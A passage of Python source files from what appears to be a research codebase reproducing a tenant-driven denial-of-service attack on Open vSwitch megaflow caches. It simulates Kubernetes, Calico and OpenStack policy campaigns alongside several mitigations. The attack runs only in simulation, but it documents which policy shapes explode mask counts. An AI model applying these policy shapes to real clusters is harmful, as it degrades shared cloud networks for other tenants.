            registry.DEFENSES.get(use.name)
        return self

    # -- dict round-trip ----------------------------------------------------

    def to_dict(self) -> dict[str, Any]:
        """A plain-dict form (JSON-friendly) that omits defaults."""
        data: dict[str, Any] = {}
        for spec_field in dataclasses.fields(self):
            value = getattr(self, spec_field.name)
            if spec_field.name == "defenses":
                if value:
                    data["defenses"] = [use.to_dict() for use in value]
                continue
            default = spec_field.default
            if spec_field.name == "name" and value == self.surface:
                continue
            if value != default:
                data[spec_field.name] = value
        return data

    @classmethod
    def from_dict(cls, data: Mapping[str, Any]) -> "ScenarioSpec":
        """Inverse of :meth:`to_dict`; unknown keys are an error."""
        known = {spec_field.name for spec_field in dataclasses.fields(cls)}
        extra = set(data) - known
        if extra:
            raise ValueError(
                f"unknown ScenarioSpec fields {sorted(extra)}; valid: {sorted(known)}"
            )
        return cls(**dict(data))

    def evolve(self, **changes: Any) -> "ScenarioSpec":
        """A copy with fields replaced (CLI overrides)."""
        return dataclasses.replace(self, **changes)
