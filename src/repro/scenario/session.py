"""The Session facade: one object that runs any scenario end to end.

A :class:`Session` resolves a :class:`~repro.scenario.spec.ScenarioSpec`
against the registries, builds the datapath backend, compiles the CMS
policy, runs the campaign through the perf layer, and returns a uniform
:class:`ScenarioResult` — series, mask counts, degradation, scan stats,
CSV/render hooks — regardless of which cell of the scenario matrix was
requested.

Two run modes:

* :meth:`Session.run` — the full timed campaign (Fig. 3-style): victim
  workload, covert stream, defense hooks, time series.
* :meth:`Session.measure` — the static mask probe (E1/E2/E3-style):
  compile the policy, replay the covert stream once, report predicted
  vs measured mask counts and the resulting megaflow table.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

from repro.attack.analysis import reachable_mask_count
from repro.attack.campaign import AttackCampaign, CampaignReport
from repro.cms.base import PolicyTarget
from repro.net.addresses import ip_to_int
from repro.obs.export import mask_census, scan_stats
from repro.ovs.pmd import shard_views
from repro.perf.costmodel import CostModel
from repro.perf.workload import AttackerWorkload, VictimWorkload
from repro.scenario.datapath import Datapath
from repro.scenario.registry import BACKENDS, DEFENSES, PROFILES, SURFACES, Surface
from repro.scenario.spec import ScenarioSpec
from repro.util.ascii_chart import AsciiChart, AsciiTable

if TYPE_CHECKING:
    from repro.perf.series import TimeSeries
    from repro.perf.simulator import SimulationResult

#: replay bursts up to this size go through the full cache pipeline
#: (``process_batch``); larger covert sets take the known-miss slow-path
#: shortcut to avoid a quadratic TSS miss-scan bill in Python
FULL_PIPELINE_REPLAY_LIMIT = 1024


@dataclass
class MaskProbe:
    """Outcome of a static replay: predicted vs measured mask counts."""

    predicted: int
    measured: int
    #: the resulting megaflow table as (key, mask, action) text rows,
    #: in install order (empty for backends without a megaflow cache)
    rows: list[tuple[str, str, str]]
    datapath: Datapath

    @property
    def matches_prediction(self) -> bool:
        return self.predicted == self.measured


@dataclass
class DefenseOutcome:
    """One defense's post-run accounting."""

    name: str
    label: str
    tradeoff: str


@dataclass
class ScenarioResult:
    """The uniform result every Session run returns."""

    spec: ScenarioSpec
    report: CampaignReport | None = None
    probe: MaskProbe | None = None
    defenses: list[DefenseOutcome] = field(default_factory=list)
    datapath: Datapath | None = None
    #: settle seconds before post-attack means are representative
    settle: float = 10.0

    # -- uniform accessors ---------------------------------------------------

    @property
    def simulation(self) -> "SimulationResult":
        if self.report is None:
            raise ValueError(f"scenario {self.spec.name!r} ran in probe mode (no series)")
        return self.report.simulation

    @property
    def series(self) -> "TimeSeries":
        return self.simulation.series

    def final_mask_count(self) -> int:
        """Masks at the end of the run (either mode)."""
        if self.report is not None:
            return self.simulation.final_mask_count()
        assert self.probe is not None
        return self.probe.measured

    def pre_attack_mean_bps(self) -> float:
        return self.simulation.pre_attack_mean_bps()

    def post_attack_mean_bps(self, settle: float | None = None) -> float:
        return self.simulation.post_attack_mean_bps(
            settle=self.settle if settle is None else settle
        )

    def degradation(self, settle: float | None = None) -> float:
        """Post-attack victim throughput as a fraction of pre-attack."""
        return self.post_attack_mean_bps(settle) / self.pre_attack_mean_bps()

    def scan_stats(self) -> dict[str, float]:
        """Datapath-level scan accounting, where the backend exposes it
        (a subset of :meth:`~repro.ovs.stats.SwitchStats.snapshot`)."""
        return scan_stats(self.datapath)

    # -- hooks ---------------------------------------------------------------

    def to_csv(self, path: str | Path) -> Path:
        """Dump the run as CSV: the time series (campaign mode) or the
        megaflow table plus counts (probe mode).  ``path`` may be a
        directory — existing, or spelled with a trailing separator
        (``to_csv("out/")``) — in which case it is created and
        ``<scenario-name>.csv`` is written inside it."""
        target = Path(path)
        if target.is_dir() or str(path).endswith(("/", "\\")):
            target = target / f"{self.spec.name}.csv"
        target.parent.mkdir(parents=True, exist_ok=True)
        if self.report is not None:
            self.series.to_csv(target)
            return target
        assert self.probe is not None
        lines = ["key,mask,action"]
        lines += [",".join(f'"{cell}"' for cell in row) for row in self.probe.rows]
        lines.append(f'"# predicted_masks={self.probe.predicted}",'
                     f'"measured_masks={self.probe.measured}",""')
        target.write_text("\n".join(lines) + "\n")
        return target

    def headline(self) -> str:
        """The paper-style one-liner."""
        if self.report is not None:
            return self.report.headline()
        assert self.probe is not None
        return (
            f"masks predicted={self.probe.predicted} measured={self.probe.measured} "
            f"({'match' if self.probe.matches_prediction else 'MISMATCH'})"
        )

    def render(self) -> str:
        """Human-readable report: two stacked panels for campaigns, the
        megaflow table for probes."""
        if self.report is None:
            assert self.probe is not None
            table = AsciiTable(
                ["Key", "Mask", "Action"],
                title=f"{self.spec.name} — resulting megaflow table",
            )
            for row in self.probe.rows:
                table.add_row(row)
            return table.render() + "\n=> " + self.headline()

        sim = self.simulation
        times = self.series.column("t")
        throughput = AsciiChart(
            title=f"{self.spec.name}: victim throughput [Gbps] vs time [s]",
            width=75,
            height=12,
        )
        throughput.add_series(
            "victim", times, [v / 1e9 for v in self.series.column("victim_throughput_bps")]
        )
        masks = AsciiChart(
            title=f"{self.spec.name}: # megaflow masks (log) vs time [s]",
            width=75,
            height=10,
            log_y=True,
        )
        masks.add_series(
            "#megaflows",
            times,
            [max(m, 1.0) for m in self.series.column("megaflows")],
            marker="#",
        )
        lines = [throughput.render(), "", masks.render(), "", self.headline()]
        for outcome in self.defenses:
            lines.append(f"defense {outcome.label}: {outcome.tradeoff}")
        return "\n".join(lines)


class Session:
    """Builds and runs one scenario; the single public experiment API."""

    def __init__(
        self,
        spec: ScenarioSpec | str | dict,
        cost_model: CostModel | None = None,
        telemetry=None,
    ) -> None:
        if isinstance(spec, str):
            from repro.scenario.presets import SCENARIOS

            spec = SCENARIOS.get(spec)
        elif isinstance(spec, dict):
            spec = ScenarioSpec.from_dict(spec)
        self.spec = spec.validate()
        #: observability umbrella threaded down to the campaign and
        #: simulator (None = the shared null telemetry; zero overhead)
        self.telemetry = telemetry
        self.surface: Surface = SURFACES.get(spec.surface)
        self.profile = PROFILES.get(spec.profile)
        self.cost_model = cost_model or CostModel()
        self.defenses = [
            DEFENSES.get(use.name)(**use.params) for use in spec.defenses
        ]
        self.space = self.surface.space()
        self.policy, self.dimensions = self.surface.build()
        self.target = PolicyTarget(
            pod_ip=ip_to_int(spec.attacker_pod_ip),
            output_port=42,
            tenant="mallory",
            pod_name="mallory-pod",
        )

    # -- building blocks -----------------------------------------------------

    def build_datapath(self, name: str | None = None) -> Datapath:
        """The configured backend with every defense guard attached."""
        builder = BACKENDS.get(self.spec.backend)
        datapath = builder(
            profile=self.profile,
            space=self.space,
            name=name or f"{self.spec.name}-node",
            seed=self.spec.seed,
            staged=self.spec.staged_lookup,
            scan_order=self.spec.scan_order,
            key_mode=self.spec.key_mode,
            shards=self.spec.shards or self.profile.shards,
            reta_size=self.spec.reta_size or self.profile.reta_size,
            rebalance_interval=(
                self.profile.rebalance_interval
                if self.spec.rebalance_interval is None
                else self.spec.rebalance_interval
            ),
            rebalance_improvement=(
                self.profile.rebalance_improvement
                if self.spec.rebalance_improvement is None
                else self.spec.rebalance_improvement
            ),
            rebalance_load_floor=(
                self.profile.rebalance_load_floor
                if self.spec.rebalance_load_floor is None
                else self.spec.rebalance_load_floor
            ),
        )
        for defense in self.defenses:
            defense.attach(datapath)
        return datapath

    def build_campaign(self, datapath: Datapath | None = None) -> AttackCampaign:
        """The attack campaign for a full timed run."""
        if not self.surface.is_campaign:
            raise ValueError(
                f"surface {self.surface.name!r} has no CMS compiler; only "
                f"Session.measure() applies (campaign surfaces: "
                f"{[n for n, s in SURFACES.items() if s.is_campaign]})"
            )
        spec = self.spec
        assert self.surface.cms_factory is not None
        return AttackCampaign(
            cms=self.surface.cms_factory(),
            policy=self.policy,
            dimensions=self.dimensions,
            attacker_pod_ip=self.target.pod_ip,
            victim=VictimWorkload(
                offered_bps=spec.victim_offered_bps,
                frame_bytes=spec.victim_frame_bytes,
                concurrent_flows=spec.victim_concurrent_flows,
                new_flows_per_sec=spec.victim_new_flows_per_sec,
                skew=spec.workload_skew,
            ),
            attacker=AttackerWorkload(
                rate_bps=spec.covert_rate_bps,
                frame_bytes=spec.covert_frame_bytes,
                start_time=spec.attack_start,
            ),
            inject_time=spec.inject_time,
            duration=spec.duration,
            cost_model=self.cost_model,
            switch=datapath or self.build_datapath(),
            space=self.space,
            noise=spec.noise,
            seed=spec.seed,
            attacker_strategy=spec.attacker_strategy,
            reprobe_interval=spec.reprobe_interval,
            covert_replay=spec.covert_replay,
            telemetry=self.telemetry,
        )

    # -- running -------------------------------------------------------------

    def run(self) -> ScenarioResult:
        """Execute the scenario: the full timed campaign for CMS
        surfaces, the static mask probe otherwise."""
        if not self.surface.is_campaign:
            return self.run_probe()

        datapath = self.build_datapath()
        campaign = self.build_campaign(datapath)
        report = campaign.run(
            extra_events=[
                event
                for defense in self.defenses
                for event in defense.events(self.spec.attack_start)
            ]
        )
        return ScenarioResult(
            spec=self.spec,
            report=report,
            defenses=self._defense_outcomes(),
            datapath=datapath,
            settle=max((d.settle for d in self.defenses), default=10.0),
        )

    def measure(self) -> MaskProbe:
        """Static replay: compile the policy into a fresh datapath, feed
        the covert stream once, report predicted vs measured masks.

        Small streams go through the real cache pipeline in one
        :meth:`~repro.ovs.switch.OvsSwitch.process_batch` call; large
        ones (the 8192-key Calico set) use the known-miss slow-path
        shortcut, which installs identical state without the quadratic
        miss-scan bill.
        """
        datapath = self.build_datapath(name=f"{self.spec.name}-probe")
        rules = self.surface.compile_rules(self.policy, self.target, self.space)
        datapath.add_rules(rules)
        keys = self.surface.covert_keys(self.dimensions, self.target, self.space)
        if len(keys) <= FULL_PIPELINE_REPLAY_LIMIT:
            datapath.process_batch(keys, now=0.0)
        else:
            for key in keys:
                datapath.handle_miss(key, now=0.0)
        # a sharded datapath scatters the masks across its shards; the
        # figure comparable to the closed-form prediction is their sum
        measured = mask_census(datapath)[1]
        return MaskProbe(
            predicted=reachable_mask_count(self.dimensions),
            measured=measured,
            rows=_megaflow_rows(datapath),
            datapath=datapath,
        )

    def run_probe(self) -> ScenarioResult:
        """:meth:`measure`, wrapped in the uniform result type (what
        :meth:`run` returns for measure-only surfaces)."""
        probe = self.measure()
        return ScenarioResult(
            spec=self.spec,
            probe=probe,
            defenses=self._defense_outcomes(),
            datapath=probe.datapath,
        )

    # -- internals -----------------------------------------------------------

    def _defense_outcomes(self) -> list[DefenseOutcome]:
        return [
            DefenseOutcome(name=use.name, label=defense.label, tradeoff=defense.tradeoff())
            for use, defense in zip(self.spec.defenses, self.defenses)
        ]


def _megaflow_rows(datapath: Datapath) -> list[tuple[str, str, str]]:
    """The megaflow cache as (key, mask, action) text rows in install
    order — the format of the paper's Fig. 2b.  A sharded datapath
    contributes its shards' caches in shard order; backends without a
    megaflow cache contribute nothing."""
    rows: list[tuple[str, str, str]] = []
    for view in shard_views(datapath):
        megaflow = getattr(view, "megaflow", None)
        if megaflow is None:
            continue
        space = view.space
        for entry in megaflow.entries():
            key_text = ",".join(
                spec.format(value)
                for spec, value in zip(space.specs, entry.match.values)
            )
            mask_text = ",".join(
                spec.format(mask)
                for spec, mask in zip(space.specs, entry.match.masks)
            )
            rows.append((key_text, mask_text, entry.action.kind))
    return rows
