"""The :class:`Datapath` protocol — the classifier-backend interface.

Extracted from :class:`~repro.ovs.switch.OvsSwitch` so the simulator
and the Session facade run against *any* packet classifier, not just
the OVS cache hierarchy.  The protocol is deliberately small: the
datapath entry points, the slow-path rule management the CMS layer
needs, and the observables the cost model reads (mask count, cache
capacity, staged flag).

The protocol is **batch-first**: ``process_batch`` is the primary
entry point — backends amortise per-burst work (clock/revalidator
bookkeeping, bucketed TSS chunk lookups) across it — and ``process``
is contractually the single-key special case (``process(k)`` must
equal ``process_batch([k]).results[0]``, state and stats included).
``handle_miss`` remains the known-miss slow-path shortcut for replay
harnesses.

Three backend families ship:

* ``"ovs"`` — :class:`~repro.ovs.switch.OvsSwitch` itself (it already
  satisfies the protocol structurally);
* ``"sharded"`` — :class:`~repro.ovs.pmd.ShardedDatapath`: N per-PMD
  :class:`OvsSwitch` shards behind an RSS-style dispatcher, one
  megaflow cache / mask set / ranked pvector / clock per shard, with
  rule management broadcast and observables aggregated;
* ``"cacheless"`` — :class:`CachelessDatapath` below, adapting the
  ESwitch-style :class:`~repro.defense.cacheless.CachelessSwitch`:
  every packet is classified from scratch against a static tuple space
  over the *rule set*, so there is no cache for the attacker to
  poison — the mitigation baseline of the paper's reference [4].
"""

from __future__ import annotations

from typing import Iterable, Protocol, Sequence, runtime_checkable

from repro.defense.cacheless import CachelessSwitch
from repro.flow.actions import Action
from repro.flow.fields import FieldSpace
from repro.flow.key import FlowKey
from repro.flow.rule import FlowRule
from repro.ovs.megaflow import MegaflowEntry
from repro.ovs.stats import SwitchStats
from repro.ovs.switch import BatchResult, LookupPath, PacketResult
from repro.ovs.upcall import InstallGuard


@runtime_checkable
class Datapath(Protocol):
    """One node's packet classifier, as the simulator sees it."""

    name: str
    space: FieldSpace
    #: whether this backend keeps attacker-pollutable flow caches; when
    #: False the cost model charges a flat per-classification bill
    has_flow_cache: bool

    # -- datapath ----------------------------------------------------------

    def process(self, key_or_packet, in_port: int = 0,
                now: float | None = None) -> PacketResult: ...

    def process_batch(self, keys: Sequence[FlowKey] | Iterable[FlowKey],
                      now: float | None = None,
                      materialize: bool = True) -> BatchResult: ...

    def handle_miss(self, key: FlowKey, now: float = 0.0) -> MegaflowEntry | None: ...

    def advance_clock(self, now: float) -> None: ...

    # -- slow-path rule management ----------------------------------------

    def add_rule(self, rule: FlowRule) -> FlowRule: ...

    def add_rules(self, rules: list[FlowRule]) -> None: ...

    def remove_tenant_rules(self, tenant: str) -> int: ...

    def add_install_guard(self, guard: InstallGuard) -> None: ...

    def invalidate_caches(self) -> None: ...

    # -- observables the cost model reads ----------------------------------

    @property
    def mask_count(self) -> int: ...

    @property
    def megaflow_count(self) -> int: ...

    @property
    def cache_capacity(self) -> int: ...

    @property
    def staged(self) -> bool: ...

    @property
    def scan_order(self) -> str: ...

    @property
    def tss_lookups(self) -> int: ...

    def expected_scan_depth(self) -> float: ...

    @property
    def stats(self) -> SwitchStats: ...

    @property
    def rule_count(self) -> int: ...

    @property
    def idle_timeout(self) -> float: ...


def _protocol_surface(protocol: type) -> tuple[str, ...]:
    """The member names a protocol class declares (annotations plus
    methods/properties defined in its body)."""
    members = set(getattr(protocol, "__annotations__", ()))
    members.update(
        name for name in vars(protocol) if not name.startswith("_")
    )
    return tuple(sorted(members))


#: the full backend surface, derived from :class:`Datapath` itself so
#: the protocol class is the single source of truth — the
#: ``protocol-conformance`` lint rule probes every registered backend
#: against exactly this list
DATAPATH_SURFACE: tuple[str, ...] = _protocol_surface(Datapath)


class CachelessDatapath:
    """Adapter exposing :class:`CachelessSwitch` behind the protocol.

    Cache observables report the static structure: ``mask_count`` is
    the compiled group count (the per-packet scan bound — the analogue
    of the TSS mask count, except it is bounded by the rule set),
    ``megaflow_count`` and ``cache_capacity`` are zero, and
    ``handle_miss`` classifies without caching anything.
    """

    has_flow_cache = False

    def __init__(self, space: FieldSpace, name: str = "eswitch",
                 miss_action: Action | None = None) -> None:
        self.inner = CachelessSwitch(space, name=name, miss_action=miss_action)
        self.name = name
        self.space = space
        self.clock = 0.0
        #: classifications served (the protocol's ``tss_lookups``
        #: analogue: every packet is one scan over the static groups)
        self.tss_lookups = 0
        #: protocol-surface scan accounting: packets, forwarded/drops
        #: and per-classification group probes (the cache-layer
        #: counters — EMC hits, upcalls — stay zero: there is no cache)
        self.stats = SwitchStats()

    # -- datapath ----------------------------------------------------------

    def process(self, key_or_packet, in_port: int = 0,
                now: float | None = None) -> PacketResult:
        """The single-key special case of :meth:`process_batch` (the
        batch-first protocol contract)."""
        if not isinstance(key_or_packet, FlowKey):
            from repro.flow.extract import flow_key_from_packet

            key_or_packet = flow_key_from_packet(
                key_or_packet, in_port=in_port, space=self.space
            )
        return self.process_batch((key_or_packet,), now=now).results[0]

    def process_batch(self, keys: Sequence[FlowKey] | Iterable[FlowKey],
                      now: float | None = None,
                      materialize: bool = True) -> BatchResult:
        if now is not None and now > self.clock:
            self.clock = now  # monotonic, like OvsSwitch
        batch = BatchResult()
        classify = self.inner.process
        for key in keys:
            outcome = classify(key)
            self.tss_lookups += 1
            self.stats.packets += 1
            self.stats.record_scan(outcome.groups_probed, outcome.groups_probed)
            if outcome.action.is_forwarding():
                self.stats.forwarded += 1
            else:
                self.stats.drops += 1
            if materialize:
                batch.add(
                    PacketResult(
                        action=outcome.action,
                        path=LookupPath.CACHELESS,
                        tuples_scanned=outcome.groups_probed,
                        hash_probes=outcome.groups_probed,
                        entry=None,
                    )
                )
            else:
                batch.tally(
                    LookupPath.CACHELESS,
                    outcome.action.is_forwarding(),
                    outcome.groups_probed,
                    outcome.groups_probed,
                )
        return batch

    def handle_miss(self, key: FlowKey, now: float = 0.0) -> MegaflowEntry | None:
        self.process(key, now=now)
        return None

    def advance_clock(self, now: float) -> None:
        self.clock = max(self.clock, now)

    # -- slow-path rule management ----------------------------------------

    def add_rule(self, rule: FlowRule) -> FlowRule:
        return self.inner.add_rule(rule)

    def add_rules(self, rules: list[FlowRule]) -> None:
        self.inner.add_rules(rules)

    def remove_tenant_rules(self, tenant: str) -> int:
        removed = self.inner.table.remove_if(lambda rule: rule.tenant == tenant)
        if removed:
            self.inner._compiled = False
        return removed

    def add_install_guard(self, guard: InstallGuard) -> None:
        raise ValueError(
            "the cacheless backend installs no megaflows; install-guard "
            "defenses do not apply (it needs none: there is no cache to poison)"
        )

    def invalidate_caches(self) -> None:
        pass  # nothing cached

    # -- observables -------------------------------------------------------

    @property
    def mask_count(self) -> int:
        return self.inner.group_count

    @property
    def megaflow_count(self) -> int:
        return 0

    @property
    def cache_capacity(self) -> int:
        return 0

    @property
    def staged(self) -> bool:
        return False

    @property
    def scan_order(self) -> str:
        # the compiled group order is fixed at compile time; there is no
        # hit-driven re-ranking to speak of
        return "static"

    def expected_scan_depth(self) -> float:
        """Expected groups probed per classification (uniform over the
        static compiled groups)."""
        groups = self.inner.group_count
        return (groups + 1.0) / 2.0 if groups else 0.0

    @property
    def rule_count(self) -> int:
        return len(self.inner.table)

    @property
    def idle_timeout(self) -> float:
        return float("inf")  # nothing expires: nothing is cached

    def __repr__(self) -> str:
        return f"CachelessDatapath({self.inner!r})"
