"""Named, ready-to-run scenarios (``repro scenario <name>``).

Each entry is a plain :class:`~repro.scenario.spec.ScenarioSpec`; the
experiment scripts and the CLI both draw from this registry, and new
cells of the matrix are one ``SCENARIOS.register(...)`` away.
"""

from __future__ import annotations

from repro.scenario.spec import DefenseUse, ScenarioSpec
from repro.util.registry import Registry

SCENARIOS: Registry[ScenarioSpec] = Registry("scenario")

SCENARIOS.register(
    "fig2",
    ScenarioSpec(
        surface="fig2",
        name="fig2",
        description="regenerate the Fig. 2b megaflow table bit-exactly",
    ),
)
SCENARIOS.register(
    "fig3",
    ScenarioSpec(
        surface="calico",
        name="fig3",
        duration=150.0,
        attack_start=60.0,
        description="Fig. 3: the full-blown Kubernetes/Calico DoS timeline",
    ),
)
SCENARIOS.register(
    "prefix8",
    ScenarioSpec(
        surface="prefix8",
        duration=120.0,
        attack_start=30.0,
        description="the /8 warm-up campaign (8 masks, mild)",
    ),
)
SCENARIOS.register(
    "k8s",
    ScenarioSpec(
        surface="k8s",
        duration=120.0,
        attack_start=30.0,
        description="Kubernetes ip_src+tp_dst campaign (512 masks, ~90% loss)",
    ),
)
SCENARIOS.register(
    "openstack",
    ScenarioSpec(
        surface="openstack",
        duration=120.0,
        attack_start=30.0,
        description="OpenStack security-group campaign (512 masks)",
    ),
)
SCENARIOS.register(
    "calico",
    ScenarioSpec(
        surface="calico",
        duration=120.0,
        attack_start=30.0,
        description="Calico source-port campaign (8192 masks, full DoS)",
    ),
)
SCENARIOS.register(
    "calico-netdev",
    ScenarioSpec(
        surface="calico",
        name="calico-netdev",
        profile="netdev",
        duration=120.0,
        attack_start=30.0,
        description="the 8192-mask attack against the userspace/DPDK profile",
    ),
)
SCENARIOS.register(
    "calico-staged",
    ScenarioSpec(
        surface="calico",
        name="calico-staged",
        staged_lookup=True,
        duration=120.0,
        attack_start=30.0,
        description="staged TSS lookup: cheaper probes, same subtable count",
    ),
)
SCENARIOS.register(
    "calico-ranked",
    ScenarioSpec(
        surface="calico",
        name="calico-ranked",
        scan_order="ranked",
        duration=120.0,
        attack_start=30.0,
        description="subtable ranking vs the attack: uniform covert hits"
        " keep the expected scan near n/2",
    ),
)
SCENARIOS.register(
    "calico-netdev-ranked",
    ScenarioSpec(
        surface="calico",
        name="calico-netdev-ranked",
        profile="netdev-ranked",
        duration=120.0,
        attack_start=30.0,
        description="the 8192-mask attack vs the ranked userspace dpcls",
    ),
)
SCENARIOS.register(
    "calico-sharded",
    ScenarioSpec(
        surface="calico",
        name="calico-sharded",
        backend="ovs-vec-auto",
        shards=4,
        duration=120.0,
        attack_start=30.0,
        description="the 8192-mask attack vs 4 RSS-sharded PMD datapaths",
    ),
)
SCENARIOS.register(
    "calico-vec",
    ScenarioSpec(
        surface="calico",
        name="calico-vec",
        backend="ovs-vec",
        duration=120.0,
        attack_start=30.0,
        description="the 8192-mask attack on the columnar vectorized "
        "engine (bit-identical to 'calico', just faster)",
    ),
)
SCENARIOS.register(
    "calico-vec-pmd4",
    ScenarioSpec(
        surface="calico",
        name="calico-vec-pmd4",
        backend="ovs-vec",
        profile="netdev-pmd4",
        duration=120.0,
        attack_start=30.0,
        description="the 8192-mask attack vs 4 RSS-sharded vectorized "
        "PMD datapaths",
    ),
)
SCENARIOS.register(
    "calico-netdev-pmd4",
    ScenarioSpec(
        surface="calico",
        name="calico-netdev-pmd4",
        backend="ovs-vec-auto",
        profile="netdev-pmd4",
        duration=120.0,
        attack_start=30.0,
        description="the 8192-mask attack vs the 4-PMD userspace profile",
    ),
)
SCENARIOS.register(
    "calico-netdev-pmd4-alb",
    ScenarioSpec(
        surface="calico",
        name="calico-netdev-pmd4-alb",
        backend="ovs-vec-auto",
        profile="netdev-pmd4-alb",
        workload_skew=1.1,
        duration=120.0,
        attack_start=30.0,
        description="skewed victim load on 4 PMDs with RETA auto-"
        "rebalancing (the attack meets a moving hash→shard map)",
    ),
)
SCENARIOS.register(
    "k8s-deepscan",
    ScenarioSpec(
        surface="k8s",
        name="k8s-deepscan",
        backend="ovs-vec-auto",
        profile="kernel-noemc",
        covert_replay="datapath",
        duration=120.0,
        attack_start=30.0,
        description="the 512-mask victim-deep-scan campaign: EMC "
        "insertion off (the documented operator response to cache "
        "thrashing) and every covert packet replayed through the real "
        "pipeline as one coalesced burst per tick — the wall clock is "
        "the TSS deep scan itself, which is what BENCH_e2e measures",
    ),
)
SCENARIOS.register(
    "k8s-serve",
    ScenarioSpec(
        surface="k8s",
        name="k8s-serve",
        backend="sharded",
        profile="kernel-noemc",
        shards=4,
        duration=30.0,
        attack_start=0.0,
        description="the deep-scan serve workload: the 512-mask "
        "Kubernetes covert stream replayed live through `repro serve` "
        "— EMC insertion off, so every packet after the first lap "
        "deep-scans the exploded subtable list on its shard.  The "
        "per-packet scan dominates the IPC cost, which is what makes "
        "the multi-process runtime's speedup near-linear; "
        "BENCH_serve gates serial↔parallel equivalence and >=2x "
        "packets/s at 4 workers on this spec",
    ),
)
SCENARIOS.register(
    "spread-campaign",
    ScenarioSpec(
        surface="k8s",
        name="spread-campaign",
        backend="ovs-vec-auto",
        shards=4,
        workload_skew=1.1,
        rebalance_interval=5.0,
        attacker_strategy="spread",
        reprobe_interval=10.0,
        victim_offered_bps=4e9,  # a 4-core node's worth of offered load
        duration=120.0,
        attack_start=30.0,
        description="hash-aware spread attacker vs 4 auto-balanced PMDs,"
        " re-probing the live RETA every 10 s (the E10 arms race as one"
        " Session timeline)",
    ),
)
SCENARIOS.register(
    "calico-cacheless",
    ScenarioSpec(
        surface="calico",
        name="calico-cacheless",
        backend="cacheless",
        duration=120.0,
        attack_start=30.0,
        description="the ESwitch-style cacheless backend: nothing to poison",
    ),
)
SCENARIOS.register(
    "calico-mask-limit",
    ScenarioSpec(
        surface="calico",
        name="calico-mask-limit",
        defenses=(DefenseUse("mask-limit"),),
        duration=120.0,
        attack_start=30.0,
        description="mitigation: 64-mask budget, overflow degraded to exact",
    ),
)
SCENARIOS.register(
    "calico-rate-limit",
    ScenarioSpec(
        surface="calico",
        name="calico-rate-limit",
        defenses=(DefenseUse("rate-limit"),),
        duration=120.0,
        attack_start=30.0,
        description="mitigation: per-tenant install rate limiting (weak)",
    ),
)
SCENARIOS.register(
    "calico-prefix-rounding",
    ScenarioSpec(
        surface="calico",
        name="calico-prefix-rounding",
        defenses=(DefenseUse("prefix-rounding"),),
        duration=120.0,
        attack_start=30.0,
        description="mitigation: coarse-grained wildcarding (g=8)",
    ),
)
SCENARIOS.register(
    "calico-detector",
    ScenarioSpec(
        surface="calico",
        name="calico-detector",
        defenses=(DefenseUse("detector"),),
        duration=120.0,
        attack_start=30.0,
        description="mitigation: mask-anomaly detection + tenant eviction",
    ),
)
