"""The scenario registries: surfaces, profiles, defenses, backends.

Each axis of the scenario matrix is a string-keyed
:class:`~repro.util.registry.Registry`, so a
:class:`~repro.scenario.spec.ScenarioSpec` is pure data and the CLI
can enumerate every choice (``repro scenario --list``).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Sequence

from repro.attack.analysis import AttackDimension
from repro.attack.packets import CovertStreamGenerator
from repro.attack.policy import (
    calico_attack_policy,
    kubernetes_attack_policy,
    openstack_attack_security_group,
    single_prefix_policy,
)
from repro.cms.base import CloudManagementSystem, PolicyTarget
from repro.cms.calico import CalicoCms
from repro.cms.kubernetes import KubernetesCms
from repro.cms.openstack import OpenStackCms
from repro.defense.detector import MaskAnomalyDetector
from repro.defense.mask_limit import MaskLimitGuard
from repro.defense.prefix_heuristic import PrefixRoundingGuard
from repro.defense.rate_limit import UpcallRateLimitGuard
from repro.flow.fields import OVS_FIELDS, FieldSpace, toy_single_field_space
from repro.flow.key import FlowKey
from repro.flow.rule import FlowRule
from repro.ovs.pmd import shard_views
from repro.ovs.switch import OvsSwitch
from repro.perf.costmodel import DatapathProfile
from repro.perf.factory import (
    PROFILES,
    sharded_switch_for_profile,
    switch_for_profile,
)
from repro.scenario.datapath import CachelessDatapath, Datapath
from repro.util.registry import Registry

__all__ = [
    "BACKENDS",
    "DEFENSES",
    "PROFILES",
    "SURFACES",
    "DefenseAgent",
    "Surface",
]


# ---------------------------------------------------------------------------
# attack surfaces
# ---------------------------------------------------------------------------

def _ovs_space() -> FieldSpace:
    return OVS_FIELDS


@dataclass(frozen=True)
class Surface:
    """One CMS attack surface: which policy shape reaches which masks.

    ``cms_factory`` is ``None`` for self-contained surfaces (the Fig. 2
    toy) that provide compiled rules directly via ``rules_builder``.
    """

    name: str
    description: str
    #: the CMS family name reports use ("kubernetes", "openstack", ...)
    cms_name: str
    #: attacked fields, human-readable ("ip_src/32, tp_dst/16")
    fields: str
    #: compact label for sweep tables ("ip_src+tp_dst")
    short_label: str
    #: verbose label for the mask-count table ("ip_src + tp_dst")
    scenario_label: str
    #: the mask count the paper reports for this surface
    paper_masks: int
    #: builds (policy object, attack dimensions)
    policy_builder: Callable[[], tuple[object, list[AttackDimension]]]
    cms_factory: Callable[[], CloudManagementSystem] | None = None
    space_factory: Callable[[], FieldSpace] = _ovs_space
    #: builds the compiled rule set directly (non-CMS surfaces only)
    rules_builder: Callable[[], list[FlowRule]] | None = None
    #: overrides the covert-stream construction (defaults to the
    #: cross-product generator over the dimensions)
    key_builder: Callable[[Sequence[AttackDimension], PolicyTarget, FieldSpace],
                          list[FlowKey]] | None = None

    @property
    def is_campaign(self) -> bool:
        """Whether this surface supports a full timed campaign (needs a
        CMS compiler and the OVS field space)."""
        return self.cms_factory is not None

    def space(self) -> FieldSpace:
        return self.space_factory()

    def build(self) -> tuple[object, list[AttackDimension]]:
        return self.policy_builder()

    def compile_rules(self, policy: object, target: PolicyTarget,
                      space: FieldSpace) -> list[FlowRule]:
        """The slow-path rules this surface's policy compiles to."""
        if self.cms_factory is not None:
            return self.cms_factory().compile(policy, target, space)
        assert self.rules_builder is not None
        return self.rules_builder()

    def covert_keys(self, dimensions: Sequence[AttackDimension],
                    target: PolicyTarget, space: FieldSpace) -> list[FlowKey]:
        """The adversarial packet sequence for this surface."""
        if self.key_builder is not None:
            return self.key_builder(dimensions, target, space)
        return CovertStreamGenerator(
            list(dimensions), dst_ip=target.pod_ip, space=space
        ).keys()


SURFACES: Registry[Surface] = Registry("attack surface")

SURFACES.register(
    "prefix8",
    Surface(
        name="prefix8",
        description="the /8 allow warm-up (8 masks, barely hurts)",
        cms_name="kubernetes",
        fields="ip_src/8",
        short_label="/8 warm-up",
        scenario_label="/8 allow (warm-up)",
